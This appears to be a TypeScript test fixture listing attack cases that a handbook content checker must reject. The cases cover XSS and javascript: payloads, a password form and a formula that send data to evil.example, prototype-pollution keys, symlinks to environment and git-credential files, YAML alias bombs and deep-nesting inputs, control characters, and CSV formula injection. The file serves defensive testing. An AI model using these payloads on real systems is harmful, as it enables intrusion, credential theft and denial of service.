// The hostile corpus: content written by an attacker with a pull request, one case per attack, each
// starting from a copy of the bad-input corpus's small valid handbook (test/fixtures/bad-input/base).
// Every case names the guard that stops it (docs/content-model.md); test/integration/hostile-corpus.test.ts
// runs them. A case fails if its guard is removed.
import { execFileSync } from 'node:child_process';
import { appendFileSync, cpSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CORPUS } from './bad-input-corpus.ts';
import { edit } from './helpers.ts';

/** What `okr check --audience public` must report for a case (the file relative to the content). */
export interface Reported {
  file: string;
  line?: number;
  message: RegExp;
}

export interface HostileCase {
  name: string;
  /** The class of attack, as the issue lists them. */
  kind: 'mdx' | 'keys' | 'projection' | 'bounded' | 'links' | 'control';
  about: string;
  /** Write the attack into a copy of the base handbook. */
  prepare: (dir: string) => void;
  /** An error okr check must report, or (projection) a string the public handbook must not contain. */
  expect: Reported | { leak: string };
  /** The MDX page holding the attack, for the renderer's own refusal (build-time defence). */
  page?: string;
}

/** A guide page holding `body`, public so that the public build would publish it. */
const guide = (name: string, body: string) => (dir: string) =>
  writeFileSync(join(dir, `guides/${name}.mdx`), `---\ntitle: ${name}\nclassification: public\n---\n\nIntroduction.\n\n${body}\n`);
/** Its first body line is line 8. */
const BODY = 8;

/** The base's quarter made public: its objectives are public unless they say otherwise. */
const publicPeriod = (dir: string) => edit(join(dir, 'periods/2030-Q1.yaml'), 'kind: quarter', 'kind: quarter\nclassification: public');

/** A named pipe (Node has no mkfifo of its own). */
const mkfifoSync = (path: string) => execFileSync('mkfifo', [path]);

/** The file a build-time attack would write if its code ran (inside the copied content). */
export const PWNED = 'PWNED-BY-MDX';

const mdx = (name: string, about: string, body: string, message: RegExp, line = BODY): HostileCase => ({
  name: `mdx-${name}`,
  kind: 'mdx',
  about,
  prepare: guide(name, body),
  expect: { file: `guides/${name}.mdx`, line, message },
  page: `guides/${name}.mdx`,
});

export const HOSTILE: HostileCase[] = [
  mdx(
    'import-writes-a-file',
    'an import whose code writes a file at build time',
    `import { writeFileSync } from 'node:fs'\nexport const pwned = writeFileSync(new URL('../${PWNED}', import.meta.url), 'ran')`,
    /cannot import or export code/,
  ),
  mdx(
    'import-publishes-hostname',
    'code that reads /etc/hostname into the page',
    `import { readFileSync } from 'node:fs'\n\nHost: {readFileSync('/etc/hostname', 'utf8')}`,
    /cannot import or export code/,
  ),
  mdx(
    'raw-import',
    'a ?raw import of an internal YAML file into a public page',
    "import secret from '../okrs/2030-Q1/company.yaml?raw'\n\n<pre>{secret}</pre>",
    /cannot import or export code/,
  ),
  mdx('url-import', 'a ?url import', "import where from '../org.yaml?url'\n\n[x](/)", /cannot import or export code/),
  mdx('expression', 'an expression evaluated at build time', 'Home: {process.env.HOME}', /cannot hold expressions/),
  mdx('attribute-expression', 'an attribute written as an expression', '<span title={process.env.HOME}>x</span>', /is an expression/),
  mdx('script', 'a script element', '<script>alert(document.cookie)</script>', /<script> is not allowed/),
  mdx('onerror', 'an image with an onerror handler', '<img src="/x.png" onerror="alert(1)" />', /attribute 'onerror'/),
  mdx('ontoggle', 'a details element with an ontoggle handler', '<details open ontoggle="alert(1)">x</details>', /attribute 'ontoggle'/),
  mdx('iframe-srcdoc', 'an iframe with a srcdoc document', '<iframe srcdoc="<script>alert(1)</script>" />', /<iframe> is not allowed/),
  mdx('set-html', "Astro's set:html directive", '<div set:html="<img src=x onerror=alert(1)>" />', /attribute 'set:html'/),
  mdx(
    'base-href',
    'a <base> that moves every relative URL to another host',
    '<base href="https://evil.example/" />',
    /<base> is not allowed/,
  ),
  mdx(
    'meta-refresh',
    'a <meta> refresh to another site',
    '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />',
    /<meta> is not allowed/,
  ),
  mdx('javascript-link', 'a javascript: link written as HTML', '<a href="javascript:alert(1)">click</a>', /link to 'javascript:/),
  mdx(
    'markdown-javascript-link',
    'a javascript: link in Markdown, entity-encoded',
    '[click](&#106;avascript:alert(1))',
    /link to 'javascript:/,
  ),
  mdx('data-link', 'a data: URL document', '[click](data:text/html,<script>alert(1)</script>)', /link to 'data:/),
  mdx('external-image', 'a tracking image from another host', '![x](https://evil.example/pixel.png)', /another host/),
  mdx('javascript-image', 'an image whose source is a javascript: URL', '<img src="javascript:alert(1)" alt="" />', /is a javascript: URL/),
  mdx(
    'style',
    'a style attribute that covers the page',
    '<div style="position:fixed;inset:0;background:white">Sign in again</div>',
    /attribute 'style'/,
  ),
  mdx('svg-script', 'script inside SVG', '<svg><script>alert(1)</script></svg>', /<svg> is not allowed/),
  mdx(
    'form',
    'a form that posts elsewhere',
    '<form action="https://evil.example/"><input name="password" /></form>',
    /<form> is not allowed/,
  ),
  mdx('object', 'an embedded object', '<object data="https://evil.example/x.swf" />', /<object> is not allowed/),
  mdx('spread', 'attributes spread from an expression', '<span {...globalThis}>x</span>', /spread/),
  mdx(
    'fragment-set-html',
    "Astro's <Fragment set:html>, which writes raw HTML",
    '<Fragment set:html="<img src=x onerror=alert(1)>" />',
    /unknown component <Fragment>/,
  ),
  mdx('uppercase-script', 'a script element written in capitals', '<SCRIPT>alert(1)</SCRIPT>', /unknown component <SCRIPT>/),
  mdx(
    'component-handler',
    "an event handler on one of the handbook's own components",
    '<OkrTable period="2030-Q1" onload="alert(1)" />',
    /<OkrTable> has no attribute 'onload'/,
  ),
  mdx(
    'entity-in-attribute',
    'a javascript: link split by a character reference inside an HTML attribute',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    /link to 'jav\s*ascript:/,
  ),
  mdx(
    'reference-definition',
    'a javascript: link hidden in a Markdown link reference definition',
    '[click][1]\n\n[1]: <javascript:alert(1)>',
    /link to 'javascript:/,
  ),
  mdx(
    'protocol-relative-image',
    'an image from another host written without a scheme (//host/…)',
    '<img src="//evil.example/pixel.png" alt="" />',
    /another host/,
  ),
  mdx(
    'srcset',
    'an image whose srcset loads from another host',
    '<img src="/x.png" srcset="https://evil.example/pixel.png 1x" alt="" />',
    /attribute 'srcset'/,
  ),
  {
    name: 'mdx-markdown-autolink',
    kind: 'mdx',
    about: 'a javascript: autolink in a .md guide (<javascript:…>)',
    prepare: (dir) =>
      writeFileSync(join(dir, 'guides/auto.md'), '---\ntitle: Auto\nclassification: public\n---\n\n<javascript:alert(1)>\n'),
    expect: { file: 'guides/auto.md', line: 6, message: /link to 'javascript:/ },
    page: 'guides/auto.md',
  },
  {
    name: 'mdx-narrative-script',
    kind: 'mdx',
    about: "a period narrative's script",
    prepare: (dir) => appendFileSync(join(dir, 'periods/2030-Q1.mdx'), '\n<script>alert(1)</script>\n'),
    expect: { file: 'periods/2030-Q1.mdx', line: 6, message: /<script> is not allowed/ },
    page: 'periods/2030-Q1.mdx',
  },
  {
    name: 'mdx-markdown-page-html',
    kind: 'mdx',
    about: 'raw HTML in a .md guide, which Markdown would pass through',
    prepare: (dir) => writeFileSync(join(dir, 'guides/plain.md'), '---\ntitle: Plain\n---\n\n<script>alert(1)</script>\n'),
    expect: { file: 'guides/plain.md', line: 5, message: /raw HTML is not allowed/ },
    page: 'guides/plain.md',
  },
  {
    name: 'mdx-slug-twice',
    kind: 'mdx',
    about: 'an internal guide x.md beside a public x.mdx (one address, two pages)',
    prepare: (dir) => {
      edit(join(dir, 'guides/welcome.mdx'), 'order: 1', 'order: 1\nclassification: public');
      writeFileSync(
        join(dir, 'guides/welcome.md'),
        '---\ntitle: Welcome (internal)\nclassification: internal\n---\n\nCANARY internal notes.\n',
      );
    },
    expect: { file: 'guides/welcome.mdx', message: /guides\/welcome\.md and this file are both the page 'welcome'/ },
  },
  {
    name: 'mdx-slug-case',
    kind: 'mdx',
    about: 'Welcome.mdx beside welcome.mdx (one folder where the file system ignores case)',
    prepare: (dir) =>
      writeFileSync(join(dir, 'guides/Welcome.mdx'), '---\ntitle: Welcome again\nclassification: public\n---\n\nOther text.\n'),
    expect: { file: 'guides/welcome.mdx', message: /guides\/Welcome\.mdx and this file are both the page 'Welcome'/ },
  },
  {
    name: 'keys-proto-period',
    kind: 'keys',
    about: '__proto__ in a period file, which made the internal period public',
    prepare: (dir) => appendFileSync(join(dir, 'periods/2030-Q1.yaml'), '__proto__: { classification: public }\n'),
    expect: { file: 'periods/2030-Q1.yaml', line: 8, message: /'__proto__' is not a field/ },
  },
  {
    name: 'keys-proto-org',
    kind: 'keys',
    about: '__proto__ in org.yaml, which made everything public',
    prepare: (dir) =>
      edit(
        join(dir, 'org.yaml'),
        'defaultClassification: internal',
        'defaultClassification: internal\n__proto__: { defaultClassification: public }',
      ),
    expect: { file: 'org.yaml', line: 5, message: /'__proto__' is not a field/ },
  },
  {
    name: 'keys-constructor',
    kind: 'keys',
    about: 'constructor as a key inside an objective',
    prepare: (dir) =>
      edit(join(dir, 'okrs/2030-Q1/company.yaml'), '    owner: ceo', '    owner: ceo\n    constructor: { classification: public }'),
    expect: { file: 'okrs/2030-Q1/company.yaml', line: 7, message: /'constructor' is not a field/ },
  },
  {
    name: 'keys-prototype',
    kind: 'keys',
    about: 'prototype as a key of a KPI',
    prepare: (dir) => edit(join(dir, 'kpis/finance.yaml'), 'owner: ceo }', 'owner: ceo, prototype: x }'),
    expect: { file: 'kpis/finance.yaml', message: /'prototype' is not a field/ },
  },
  {
    name: 'keys-proto-front-matter',
    kind: 'keys',
    about: "__proto__ in an internal guide's front matter, to make it public",
    prepare: (dir) =>
      writeFileSync(
        join(dir, 'guides/notes.mdx'),
        '---\ntitle: Notes\nclassification: internal\n__proto__: { classification: public }\n---\n\nCANARY internal notes.\n',
      ),
    expect: { file: 'guides/notes.mdx', line: 4, message: /'__proto__' is not a field/ },
  },
  {
    name: 'keys-proto-deep',
    kind: 'keys',
    about: '__proto__ deep inside a check-in of a list',
    prepare: (dir) => edit(join(dir, 'okrs/2030-Q1/company.yaml'), 'note: On track }', 'note: On track, __proto__: { value: 20 } }'),
    expect: { file: 'okrs/2030-Q1/company.yaml', line: 17, message: /'__proto__' is not a field/ },
  },
  {
    name: 'projection-internal-pillar',
    kind: 'projection',
    about: 'a pillar only an internal objective names, in a public period',
    prepare: (dir) => {
      publicPeriod(dir);
      edit(join(dir, 'org.yaml'), 'pillars:\n', 'pillars:\n  - { id: secret-bet, name: CANARY-PILLAR-SECRET-BET }\n');
      edit(join(dir, 'okrs/2030-Q1/company.yaml'), 'pillar: reliability', 'pillar: secret-bet\n    classification: internal');
    },
    expect: { leak: 'CANARY-PILLAR-SECRET-BET' },
  },
  {
    name: 'projection-internal-gate',
    kind: 'projection',
    about: 'a stage gate only an internal objective names, in a public period',
    prepare: (dir) => {
      publicPeriod(dir);
      appendFileSync(join(dir, 'org.yaml'), 'stageGates:\n  - { id: acquire, name: CANARY-GATE-ACQUIRE }\n');
      edit(
        join(dir, 'okrs/2030-Q1/company.yaml'),
        'pillar: reliability',
        'pillar: reliability\n    stageGate: acquire\n    classification: internal',
      );
    },
    expect: { leak: 'CANARY-GATE-ACQUIRE' },
  },
  {
    name: 'projection-redacted-labels',
    kind: 'projection',
    about: "a public redacted key result's labels (the wording of its hidden values)",
    prepare: (dir) => {
      publicPeriod(dir);
      appendFileSync(join(dir, 'org.yaml'), 'redactions:\n  - { id: n1, label: N1 }\n');
      edit(
        join(dir, 'okrs/2030-Q1/company.yaml'),
        '      - { id: kr2, title: Launch event held, kind: milestone }',
        "      - { id: kr2, title: 'Sign {n1} logos', kind: redacted, values: [n1], labels: { target: 'CANARY-REDACTED-40-LOGOS' } }",
      );
    },
    expect: { leak: 'CANARY-REDACTED-40-LOGOS' },
  },
  {
    name: 'projection-internal-team',
    kind: 'projection',
    about: 'a team only an internal objective names, in a public period',
    prepare: (dir) => {
      publicPeriod(dir);
      appendFileSync(join(dir, 'teams.yaml'), '  - { id: skunkworks, name: CANARY-TEAM-SKUNKWORKS, parent: company }\n');
      writeFileSync(
        join(dir, 'okrs/2030-Q1/skunkworks.yaml'),
        'period: 2030-Q1\nteam: skunkworks\nobjectives:\n  - id: 2030-q1-skunkworks-secret\n    title: Secret\n    owner: ceo\n    classification: internal\n    parent: 2030-q1-company-launch\n    keyResults:\n      - { id: kr1, title: Done, kind: milestone }\n',
      );
    },
    expect: { leak: 'CANARY-TEAM-SKUNKWORKS' },
  },
  {
    name: 'projection-internal-person',
    kind: 'projection',
    about: 'a person only an internal objective names, in a public period',
    prepare: (dir) => {
      publicPeriod(dir);
      appendFileSync(join(dir, 'people.yaml'), '  - { id: spy, name: CANARY-PERSON-SPY, title: Agent, team: product }\n');
      edit(join(dir, 'okrs/2030-Q1/product.yaml'), '    owner: pm', '    owner: spy\n    classification: internal');
    },
    expect: { leak: 'CANARY-PERSON-SPY' },
  },
  {
    name: 'projection-internal-guide',
    kind: 'projection',
    about: 'an internal guide in a handbook with public pages',
    prepare: (dir) => {
      publicPeriod(dir);
      edit(join(dir, 'guides/welcome.mdx'), 'order: 1', 'order: 1\nclassification: public');
      writeFileSync(join(dir, 'guides/pricing.mdx'), '---\ntitle: Pricing\nclassification: internal\n---\n\nCANARY-GUIDE-PRICING\n');
    },
    expect: { leak: 'CANARY-GUIDE-PRICING' },
  },
  {
    name: 'projection-internal-kpi',
    kind: 'projection',
    about: 'an internal KPI that a public key result links to',
    prepare: (dir) => {
      publicPeriod(dir);
      edit(join(dir, 'kpis/finance.yaml'), '{ id: revenue, name: Revenue,', '{ id: revenue, name: CANARY-KPI-REVENUE,');
    },
    expect: { leak: 'CANARY-KPI-REVENUE' },
  },
  {
    name: 'projection-embedded-internal',
    kind: 'projection',
    about: 'a public guide that embeds an internal key result (<GradeExample>)',
    prepare: guide('embeds', '<GradeExample kr="2030-q1-company-launch.kr1" />'),
    expect: { file: 'guides/embeds.mdx', line: BODY, message: /names a key result the public handbook does not show/ },
  },
  {
    name: 'bounded-fifo',
    kind: 'bounded',
    about: 'a named pipe among the content files (reading it blocked forever)',
    prepare: (dir) => mkfifoSync(join(dir, 'kpis/pipe.yaml')),
    expect: { file: 'kpis/pipe.yaml', message: /named pipe \(FIFO\), not a file/ },
  },
  {
    name: 'bounded-dev-zero',
    kind: 'bounded',
    about: 'a link to /dev/zero (reading it grew memory until the process was killed)',
    prepare: (dir) => symlinkSync('/dev/zero', join(dir, 'kpis/zero.yaml')),
    expect: { file: 'kpis/zero.yaml', message: /link to \/dev\/zero, a character device/ },
  },
  {
    name: 'bounded-link-to-fifo',
    kind: 'bounded',
    about: 'a link to a named pipe outside the content',
    prepare: (dir) => {
      mkfifoSync(join(dir, '..', 'outside.fifo'));
      symlinkSync(join(dir, '..', 'outside.fifo'), join(dir, 'guides/pipe.mdx'));
    },
    expect: { file: 'guides/pipe.mdx', message: /link to .*outside\.fifo, a named pipe/ },
  },
  {
    name: 'bounded-fifo-in-trust',
    kind: 'bounded',
    about: 'a named pipe where a snapshot file belongs',
    prepare: (dir) => {
      mkdirSync(join(dir, 'trust/2030-Q1/v1'), { recursive: true });
      mkfifoSync(join(dir, 'trust/2030-Q1/v1/manifest.json'));
    },
    expect: { file: 'trust/2030-Q1/v1/manifest.json', message: /named pipe/ },
  },
  {
    name: 'bounded-huge-file',
    kind: 'bounded',
    about: 'a 20 MB content file',
    prepare: (dir) => writeFileSync(join(dir, 'kpis/huge.yaml'), `id: huge\nname: Huge\ndescription: ${'x'.repeat(20 * 1024 * 1024)}\n`),
    expect: { file: 'kpis/huge.yaml', message: /larger than 16 MB/ },
  },
  {
    name: 'bounded-large-page',
    kind: 'bounded',
    about: 'a 2 MB guide page (pages are read whole by the Markdown parser)',
    prepare: guide('large', 'Words and more words. '.repeat(100_000)),
    expect: { file: 'guides/large.mdx', line: 1, message: /pages are limited to 1 MB/ },
    page: 'guides/large.mdx',
  },
  {
    name: 'bounded-deep-yaml',
    kind: 'bounded',
    about: 'YAML mappings nested 50,000 deep (the parser recurses per level)',
    prepare: (dir) => appendFileSync(join(dir, 'kpis/finance.yaml'), `extra: ${'{a: '.repeat(50_000)}1${'}'.repeat(50_000)}\n`),
    expect: { file: 'kpis/finance.yaml', line: 5, message: /nests too deeply to read/ },
  },
  {
    name: 'bounded-yaml-past-the-limit',
    kind: 'bounded',
    about: 'YAML nested 150 deep: past the stated limit of 100, well within what the parsers could survive',
    prepare: (dir) => appendFileSync(join(dir, 'kpis/finance.yaml'), `extra: ${'['.repeat(150)}${']'.repeat(150)}\n`),
    expect: { file: 'kpis/finance.yaml', line: 5, message: /nests too deeply to read/ },
  },
  {
    name: 'bounded-alias-bomb',
    kind: 'bounded',
    about: 'a "billion laughs": ten levels of ten aliases each',
    prepare: (dir) => {
      const levels = ['a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
      for (let i = 1; i < 10; i++) levels.push(`a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(', ')}]`);
      appendFileSync(join(dir, 'kpis/finance.yaml'), `${levels.join('\n')}\n`);
    },
    expect: { file: 'kpis/finance.yaml', message: /aliases expand too far/ },
  },
  {
    name: 'bounded-recursive-alias',
    kind: 'bounded',
    about: 'a three-line anchor that names itself (a stack overflow in check, build, export and diff)',
    prepare: (dir) => appendFileSync(join(dir, 'kpis/finance.yaml'), 'loop: &loop\n  again: *loop\n'),
    expect: { file: 'kpis/finance.yaml', line: 6, message: /alias of a mapping or list that contains it/ },
  },
  {
    name: 'bounded-recursive-alias-in-list',
    kind: 'bounded',
    about: 'a list that contains itself',
    prepare: (dir) => appendFileSync(join(dir, 'kpis/finance.yaml'), 'loop: &loop [1, *loop]\n'),
    expect: { file: 'kpis/finance.yaml', message: /alias of a mapping or list that contains it/ },
  },
  {
    name: 'bounded-recursive-alias-in-front-matter',
    kind: 'bounded',
    about: "an alias inside itself in a guide's front matter",
    prepare: (dir) =>
      writeFileSync(join(dir, 'guides/loop.mdx'), '---\ntitle: Loop\nclassification: public\nloop: &l [1, *l]\n---\n\nText.\n'),
    expect: { file: 'guides/loop.mdx', line: 4, message: /alias of a mapping or list that contains it/ },
  },
  {
    name: 'bounded-mdx-nested-expressions',
    kind: 'bounded',
    about: 'MDX nested 7,000 levels deep (the parser crashed the process)',
    prepare: guide('deep', `{${'('.repeat(7000)}${')'.repeat(7000)}}`),
    expect: { file: 'guides/deep.mdx', line: BODY, message: /nests more than 100 levels/ },
    page: 'guides/deep.mdx',
  },
  {
    name: 'bounded-mdx-nested-tags',
    kind: 'bounded',
    about: 'MDX with 50,000 nested tags',
    prepare: guide('tags', `${'<span>'.repeat(50_000)}x${'</span>'.repeat(50_000)}`),
    expect: { file: 'guides/tags.mdx', line: BODY, message: /nests more than 100 levels/ },
    page: 'guides/tags.mdx',
  },
  {
    name: 'bounded-mdx-nested-lists',
    kind: 'bounded',
    about: 'Markdown lists nested 250,000 deep on one line',
    prepare: guide('lists', `${'1. '.repeat(250_000)}x`),
    expect: { file: 'guides/lists.mdx', line: BODY, message: /nests more than 100 levels/ },
    page: 'guides/lists.mdx',
  },
  {
    name: 'links-environ',
    kind: 'links',
    about: "a public page that is a link to /proc/self/environ (the build's environment, published)",
    prepare: (dir) => symlinkSync('/proc/self/environ', join(dir, 'guides/environment.mdx')),
    expect: { file: 'guides/environment.mdx', message: /link to \/proc\/self\/environ, a file outside the content folder/ },
  },
  {
    name: 'links-git-config',
    kind: 'links',
    about: "a public page that is a link to the repository's .git/config (credentials)",
    prepare: (dir) => {
      mkdirSync(join(dir, '../repo/.git'), { recursive: true });
      writeFileSync(join(dir, '../repo/.git/config'), '[http]\n\textraheader = AUTHORIZATION: basic CANARY-TOKEN\n');
      symlinkSync('../../repo/.git/config', join(dir, 'guides/config.mdx'));
    },
    expect: { file: 'guides/config.mdx', message: /link to \.\.\/\.\.\/repo\/\.git\/config, a file outside the content folder/ },
  },
  {
    name: 'links-internal-okrs',
    kind: 'links',
    about: "a public page name that is a link to an internal team's OKR file",
    prepare: (dir) => symlinkSync('../okrs/2030-Q1/company.yaml', join(dir, 'guides/plan.mdx')),
    expect: { file: 'guides/plan.mdx', message: /link to \.\.\/okrs\/2030-Q1\/company\.yaml, a file already in the content/ },
  },
  {
    name: 'links-root-folder',
    kind: 'links',
    about: 'a link to / among the guides (the check walked the whole file system)',
    prepare: (dir) => symlinkSync('/', join(dir, 'guides/root')),
    expect: { file: 'guides/root', message: /link to \/, a folder outside the content folder/ },
  },
  {
    name: 'bounded-mdx-self-closing-run',
    kind: 'bounded',
    about: "60,000 '<i>/>' then as many '</i>' (each /> was counted as a close: the check took minutes)",
    prepare: guide('selfclose', `${'<i>/>'.repeat(60_000)}x${'</i>'.repeat(60_000)}`),
    expect: { file: 'guides/selfclose.mdx', line: BODY, message: /nests more than 100 levels/ },
    page: 'guides/selfclose.mdx',
  },
  {
    name: 'bounded-mdx-closers-in-code',
    kind: 'bounded',
    about: 'tags whose closing halves hide in code spans, which no estimate before parsing sees through',
    prepare: guide('codeclose', `${'<i>`</i>`'.repeat(30_000)}x${'</i>'.repeat(30_000)}`),
    expect: { file: 'guides/codeclose.mdx', line: BODY, message: /more than 2,000 tags/ },
    page: 'guides/codeclose.mdx',
  },
  {
    name: 'bounded-mdx-brackets-in-template',
    kind: 'bounded',
    about: 'an expression 10,000 brackets deep whose closing halves hide in template strings (the parser crashed)',
    prepare: guide('template', `{${'(`)`+'.repeat(10_000)}1${')'.repeat(10_000)}}`),
    expect: { file: 'guides/template.mdx', line: BODY, message: /followed by more than 1,000 brackets/ },
    page: 'guides/template.mdx',
  },
  {
    name: 'bounded-mdx-brackets-in-export',
    kind: 'bounded',
    about: 'an export 10,000 brackets deep, with no brace at all',
    prepare: guide('esm', `export const a = ${'(`)`+'.repeat(10_000)}1${')'.repeat(10_000)}`),
    expect: { file: 'guides/esm.mdx', line: BODY, message: /followed by more than 1,000 brackets/ },
    page: 'guides/esm.mdx',
  },
  {
    name: 'bounded-many-items',
    kind: 'bounded',
    about: 'a 180 KB list of 60,000 empty objectives (a problem each overflowed the stack; the listing was 36 MB)',
    prepare: (dir) =>
      writeFileSync(join(dir, 'okrs/2030-Q1/company.yaml'), `period: 2030-Q1\nteam: company\nobjectives: [${'{}, '.repeat(60_000)}]\n`),
    expect: { file: 'okrs/2030-Q1/company.yaml', message: /^… and [\d,]+ more in this file, not listed/ },
  },
  {
    name: 'bounded-many-checkins',
    kind: 'bounded',
    about: 'a key result with 1,001 check-ins (150,000 passed the check and crashed the build)',
    prepare: (dir) =>
      edit(
        join(dir, 'okrs/2030-Q1/company.yaml'),
        /( +)- \{ date: 2030-02-01, value: 14, status: yellow, note: On track \}\n/,
        Array.from({ length: 1001 }, () => '          - { date: 2030-02-01, value: 14 }\n').join(''),
      ),
    expect: { file: 'okrs/2030-Q1/company.yaml', message: /holds 1,001 check-ins; a key result keeps at most 1,000/ },
  },
  {
    name: 'bounded-long-id',
    kind: 'bounded',
    about: 'an objective id of 300 characters (it passed the check; the build failed with ENAMETOOLONG)',
    prepare: (dir) => edit(join(dir, 'okrs/2030-Q1/company.yaml'), 'id: 2030-q1-company-launch', `id: 2030-q1-${'x'.repeat(292)}`),
    expect: { file: 'okrs/2030-Q1/company.yaml', line: 4, message: /is 300 characters long; an id is at most 100/ },
  },
  {
    name: 'control-escape-in-title',
    kind: 'control',
    about: "an ESC sequence in an objective's title (it reached the HTML and a reviewer's terminal)",
    prepare: (dir) => edit(join(dir, 'okrs/2030-Q1/company.yaml'), 'title: Launch the product', 'title: "Launch \\e[2J\\e[Hthe product"'),
    expect: { file: 'okrs/2030-Q1/company.yaml', line: 5, message: /'title' contains a control character \(U\+001B\)/ },
  },
  {
    name: 'control-nul-in-note',
    kind: 'control',
    about: "a NUL in a check-in's note",
    prepare: (dir) => edit(join(dir, 'okrs/2030-Q1/company.yaml'), 'note: On track }', 'note: "On\\0track" }'),
    expect: { file: 'okrs/2030-Q1/company.yaml', line: 17, message: /'note' contains a control character \(U\+0000\)/ },
  },
  {
    name: 'control-backspace-in-guide-title',
    kind: 'control',
    about: "a backspace written into a public guide's title",
    prepare: (dir) => writeFileSync(join(dir, 'guides/bs.mdx'), '---\ntitle: "Safe\\bx"\nclassification: public\n---\n\nText.\n'),
    expect: { file: 'guides/bs.mdx', line: 2, message: /'title' contains a control character \(U\+0008\)/ },
  },
];

/** A copy of the base handbook with the case's attack written into it. */
export function prepareHostile(c: HostileCase, root: string): string {
  const dir = join(root, c.name);
  cpSync(join(CORPUS, 'base'), dir, { recursive: true });
  c.prepare(dir);
  return dir;
}

/** Formula payloads a spreadsheet would run, each with what the CSV cell must read. */
export const CSV_PAYLOADS: [string, string][] = [
  ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
  ['=HYPERLINK("https://evil.example/?"&A1,"x")', `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`],
  ['+1+cmd|x', "'+1+cmd|x"],
  ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['＝1+1', "'＝1+1"],
  ['-2.5e3+cmd|x', "'-2.5e3+cmd|x"],
];
